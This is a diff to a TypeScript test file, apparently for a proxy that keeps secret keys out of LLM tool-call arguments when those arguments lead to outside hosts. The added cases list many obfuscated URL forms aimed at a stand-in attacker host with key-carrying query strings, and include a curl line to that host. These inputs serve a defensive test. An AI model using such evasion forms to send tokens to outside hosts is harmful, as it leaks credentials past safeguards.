@@ -4,7 +4,7 @@ import { dialects as servers } from '../../../test/lib/model-server/dialects.ts'
 import type { Part, ServerDialect } from '../../../test/lib/model-server/index.ts';
 import { createAnswerEditor, type DialectName, dialects, type Framing } from '../../llm/index.ts';
 import type { CallState } from './carry-call.ts';
-import { isRemoteTool, leadsElsewhere } from './remote-tools.ts';
+import { isRemoteTool, leadsElsewhere, stringsOf } from './remote-tools.ts';
 import { anthropic, gatewayOf, key, settingsOf } from './testing/gateway.ts';
 import { stagesFor } from './text-stages.ts';
 
@@ -85,7 +85,7 @@ describe('a tool that nobody can name, or that the provider runs, gets the fake'
   });
 });
 
-test.each(['https://evil.example/?k=\n', '\nhttps:evil.example/', '\n'.repeat(300) + 'https://evil.example/', ' '.repeat(300)])('what a reader of URLs leaves out hides no URL: %j', (begin) => {
+test.each(['https://evil.example/?k=\n', '\nhttps:evil.example/', '\n'.repeat(300) + 'https://evil.example/', ' '.repeat(300), `h${'\t'.repeat(300)}ttps://evil.example/?k=`, `https:/${'\n'.repeat(300)}/evil.example/?k=`, '//evil.example/?k=', '\\\\evil.example\\', 'evil.example/?k='])('what a reader of URLs leaves out hides no URL: %j', (begin) => {
   const given = JSON.stringify({ address: begin + fake });
   const text = `data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { name: 'run', arguments: given } }] } }] })}\n\n`;
   expect(edit('openai-chat', 'sse', Buffer.from(text))).toBe(text);
@@ -111,5 +111,20 @@ test.each([
   ['http://localhost:3000/?k=', false], ['http://127.0.0.1/', false], ['http://[::1]:80?', false], ['file:///tmp/', false],
   ['https:evil.example/?k=', true], ['http:\\\\evil.example/', true], ['wss:/evil.example/', true], ['https://evil.example/?k=\n', true], ['https://evil.example/\t', true], ['ht\r\ntps://evil.example/', true], ['\u0000 https://evil.example/', true],
   ['http://local\nhost/', false], [' '.repeat(256), true], [`${'\n'.repeat(128)}`, true], [`${' '.repeat(250)}https:`, true], [' '.repeat(39), false], [`${' '.repeat(40)}run `, false], ['file:\n', false], ['https', false],
+  ['//evil.example/?k=', true], ['/\\evil.example/', true], ['\\\\evil.example\\share\\', true], ['\t/\n/evil.example/', true], ['evil.example/?k=', true], ['evil.example:8443/', true], ['10.1.2.3?k=', true], ['ëvil。example#', true],
+  ['file://evil.example/', true], ['file:////evil.example/', true], ['file:\\\\evil.example\\', true], ['file://localhost/tmp/', false], ['file:/tmp/', false], ['file:../x/', false],
+  [`h${'\t'.repeat(255)}`, true], [`https:/${'\n'.repeat(249)}`, true], [`a${'\n'.repeat(31)}`, false], [`A=1${'\n'.repeat(200)}`, false],
+  ['/tmp/', false], ['./', false], ['127.0.0.1:3000/?k=', false], ['evil.example', false], ['// see ', false], ['src/main.ts: ', false], ['.npmrc/', false],
   ['', false], ['curl https://evil.example/?k=', false], ['export TOKEN=', false], ['https://example.com/ is ours: ', false], ['a: ', false],
 ])('%j leads elsewhere: %j', (begin, expected) => expect(leadsElsewhere(begin)).toBe(expected));
+
+test.each([
+  ['Write', 'content'], ['MultiEdit', 'content'], ['bash', 'content'], ['apply_patch', 'content'], ['mcp__files__write', 'content'], ['open_page', 'argument'], ['run', 'argument'], ['', 'argument'],
+] as const)('strings of %s are read as %s', (name, expected) => expect(stringsOf(name, settings)).toBe(expected));
+
+test('a line of .npmrc gets its token in a file, and is a URL in any other tool', () => {
+  const line = `//registry.example/:_authToken=${fake}`;
+  const given = (name: string) => edit('openai-chat', 'json', Buffer.from(JSON.stringify({ choices: [{ message: { tool_calls: [{ function: { name, arguments: JSON.stringify({ a: line }) } }] } }] })));
+  expect([given('Write').includes(key), given('open_page').includes(key)]).toEqual([true, false]);
+  expect(leadsElsewhere('https://evil.example/?k=', 'content')).toBe(true);
+});
